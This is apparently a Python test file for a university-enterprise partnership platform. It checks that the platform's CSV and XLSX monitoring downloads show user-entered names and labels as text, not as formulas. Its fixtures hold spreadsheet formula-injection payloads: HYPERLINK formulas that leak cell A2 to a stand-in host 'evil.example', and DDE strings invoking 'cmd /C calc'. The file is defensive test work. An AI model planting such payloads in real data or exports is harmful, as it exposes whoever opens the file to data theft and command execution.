"""Monitoring downloads are safe to open: text users wrote (organization names, taxonomy labels
renamed by coordinators) is shown by the spreadsheet, never run as a formula.

Where user text reaches the tables: `partnerships` (university names, the Chinese labels of
cooperation modes and districts), `skills-gap` (competency labels in Chinese and English) and
`districts` (district and competency labels). `overview` and `internships` hold only codes,
months and numbers; they are downloaded too, so a column added later is checked as well.
"""

from __future__ import annotations

import csv as csv_module
import datetime as dt
import io
import re
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from cbec_alliance.courses.models import Course, CourseCompetency
from cbec_alliance.extensions import db
from cbec_alliance.partnerships.models import Partnership, PartnershipMode
from tests import factories
from tests.internships.factories import InternshipFactory

URL = "/api/v1/monitoring"
LEADS = "=+-@\t\r"  # OWASP: a cell starting with one of these is read as a formula
NUMBER = re.compile(r"-?\d+(\.\d+)?")

# The organization name, and one text per other way a formula starts.
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
EVIL_ZH = '=HYPERLINK("http://evil.example/?leak="&A2,"广州大学")'
TAB_ZH = "\t=1+1 华南商学院"
LABELS = {
    ("competencies", "english"): (
        '＝HYPERLINK("http://evil.example/","英语")',
        "-2+3+cmd|'/C calc'!A0",
    ),
    ("districts", "tianhe"): ("+天河区", "@SUM(1+1)*cmd|'/C calc'!A0"),
    ("districts", "panyu"): (" =番禺区", "\r=Panyu"),
    ("cooperation-modes", "lectures"): ("=讲座", "-lectures"),
}
PLAIN_ZH = "华南理工大学（广州·番禺）"


def safe_csv(resp, hostile=()) -> list[list[str]]:
    """The csv rows, after asserting that no text cell starts a formula (numbers, negative
    ones too, stay unquoted) and each of `hostile` is there behind a single quote."""
    assert resp.status_code == 200, resp.data[:300]
    assert resp.content_type == "text/csv; charset=utf-8"
    assert resp.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv_module.reader(io.StringIO(resp.data[3:].decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(tuple(LEADS)) or NUMBER.fullmatch(cell), repr(cell)
    for text in hostile:
        assert "'" + text in cells, text
        assert text not in cells, text
    return rows


def safe_xlsx(resp, hostile=()) -> list[list]:
    """The xlsx cells, after asserting that none is a formula, text is a string cell
    (quote-prefixed when it starts like a formula) and each of `hostile` is there unchanged."""
    assert resp.status_code == 200, resp.data[:300]
    ws = load_workbook(io.BytesIO(resp.data)).active
    rows = [list(r) for r in ws.iter_rows()]
    for cell in (c for row in rows for c in row):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            if cell.value.lstrip().startswith(tuple(LEADS)):
                assert cell.quotePrefix, (cell.coordinate, cell.value)
        elif cell.value is not None:  # a number, or a yes/no
            want = "b" if isinstance(cell.value, bool) else "n"
            assert cell.data_type == want, (cell.coordinate, cell.value)
    values = {c.value for row in rows for c in row}
    for text in hostile:
        assert text.replace("\r", "\n") in values, text  # XML reads CR back as LF
    return [[c.value for c in row] for row in rows]


def same_file_name(resp, want: str) -> None:
    """`filename` and `filename*` of the download both name `want`."""
    header = resp.headers["Content-Disposition"]
    assert header.startswith("attachment; ")
    plain = re.search(r'filename="([^"]*)"', header).group(1)
    encoded = re.search(r"filename\*=UTF-8''(\S+)", header).group(1)
    assert (plain, unquote(encoded)) == (want, want)


def _partnership(ent, uni, modes):
    p = Partnership(
        enterprise_id=ent.id,
        university_id=uni.id,
        starts_on=dt.date(2026, 1, 1),
        goals={},
        status="active",
        health="active",
        modes=[PartnershipMode(mode=m) for m in modes],
        proposed_by_org_id=ent.id,
    )
    db.session.add(p)
    db.session.flush()


@pytest.fixture
def hostile(coord, as_user):
    """A university renamed by its admin to the issue's formula, one created with a
    tab-led Chinese name, one with a plain Chinese name; taxonomy labels renamed by a
    coordinator to formulas; partnerships, an internship and a course that use them, so the
    English gap is negative (2 slots against 25 seats)."""
    ent = factories.OrganizationFactory(district="tianhe")
    renamed = factories.UniversityFactory(district="panyu")
    admin = as_user(factories.member(renamed, "admin"))
    resp = admin.patch(
        f"/api/v1/organizations/{renamed.id}",
        json={"name": EVIL, "name_en": "@SUM(1+1)*cmd|'/C calc'!A0"},
    )
    assert resp.status_code == 200, resp.get_json()
    tabbed = factories.UniversityFactory(district="tianhe", name=TAB_ZH, name_en="+cmd")
    plain = factories.UniversityFactory(district="panyu", name=PLAIN_ZH)
    for (vocabulary, code), (zh, en) in LABELS.items():
        resp = coord.patch(
            f"/api/v1/taxonomy/{vocabulary}/{code}", json={"name_zh": zh, "name_en": en}
        )
        assert resp.status_code == 200, resp.get_json()
    for uni in (renamed, tabbed, plain):
        _partnership(ent, uni, ["lectures", "internship-employment"])
    InternshipFactory(enterprise_id=ent.id, slots=2, competencies={"english": 2})
    db.session.add(
        Course(
            university_id=plain.id,
            code="EN-101",
            title='=HYPERLINK("http://evil.example/","课程")',
            credits=2,
            hours=32,
            semester="2026-fall",
            language="zh",
            capacity=25,
            status="published",
            competencies=[CourseCompetency(code="english")],
        )
    )
    db.session.flush()
    return {"renamed": renamed, "tabbed": tabbed, "plain": plain}


def _both(coord, route: str, hostile=()):
    csv = coord.get(f"{URL}/{route}?format=csv")
    xlsx = coord.get(f"{URL}/{route}?format=xlsx")
    same_file_name(csv, f"{route}.csv")
    same_file_name(xlsx, f"{route}.xlsx")
    return safe_csv(csv, hostile), safe_xlsx(xlsx, hostile)


def test_partnerships_show_a_renamed_organization_as_text(coord, hostile):
    mode_zh, district_zh = (
        LABELS[("cooperation-modes", "lectures")][0],
        [LABELS[("districts", d)][0] for d in ("tianhe", "panyu")],
    )
    csv, xlsx = _both(coord, "partnerships", [EVIL, TAB_ZH, mode_zh, *district_zh])
    # The name is the quoted text in csv and the unchanged string in xlsx.
    renamed = str(hostile["renamed"].id)
    assert ["university", renamed, "'" + EVIL, "active", "active", "1"] in csv
    assert ["university", hostile["renamed"].id, EVIL, "active", "active", 1] in xlsx
    # Chinese that starts no formula round-trips exactly in both.
    plain = hostile["plain"].id
    assert ["university", str(plain), PLAIN_ZH, "active", "active", "1"] in csv
    assert ["university", plain, PLAIN_ZH, "active", "active", 1] in xlsx


def test_the_skills_gap_and_districts_show_renamed_labels_as_text(coord, hostile):
    zh, en = LABELS[("competencies", "english")]
    csv, xlsx = _both(coord, "skills-gap", [zh, en])
    english = next(r for r in csv if r[0] == "english")
    assert english[1:3] == ["'" + zh, "'" + en]
    assert english[-1] == "-23"  # a negative number is still a number, not quoted
    row = next(r for r in xlsx if r[0] == "english")
    assert row[1:3] == [zh, en]
    assert row[-1] == -23
    districts = [text for key, pair in LABELS.items() if key[0] == "districts" for text in pair]
    csv, xlsx = _both(coord, "districts", [zh, en, *districts])
    panyu = next(r for r in xlsx if r[0] == "panyu" and r[3] == "english")
    assert panyu[1:6] == [" =番禺区", "\n=Panyu", "english", zh, en]
    assert panyu[-1] < 0


@pytest.mark.parametrize("route", ["overview", "internships"])
def test_tables_without_user_text_are_checked_too(coord, hostile, route):
    csv, xlsx = _both(coord, route)
    assert len(csv) == len(xlsx) > 1


def test_an_organization_name_with_characters_xml_cannot_hold_still_downloads(coord, hostile):
    bell = factories.UniversityFactory(name="广州\x07大学\x1b")
    _partnership(factories.OrganizationFactory(), bell, ["lectures"])
    csv, xlsx = _both(coord, "partnerships")
    assert any(r[2] == "广州\x07大学\x1b" for r in csv)
    assert any(r[2] == "广州\ufffd大学\ufffd" for r in xlsx)
